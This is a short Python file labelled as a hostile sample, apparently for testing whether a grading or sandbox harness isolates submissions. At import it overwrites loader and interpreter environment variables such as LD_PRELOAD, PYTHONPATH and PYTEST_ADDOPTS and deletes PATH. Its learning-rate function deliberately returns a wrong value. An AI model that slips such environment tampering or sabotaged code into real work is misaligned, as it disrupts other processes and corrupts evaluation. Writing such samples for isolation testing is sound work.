# kind: hostile
# attack: neighbour_state
# about: Changes the environment variables that steer Python, torch and the loader in later processes.

import os

HELD = -1.0  # a wrong answer for every input


for name in (
    "PYTHONSTARTUP",
    "PYTHONPATH",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "PYTHONHOME",
    "PYTEST_ADDOPTS",
    "TMPDIR",
):
    os.environ[name] = "/pretrain_canary_missing"
os.environ["PYTHONINSPECT"] = "1"
os.environ["PYTHONHASHSEED"] = "0"
os.environ.pop("PATH", None)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD
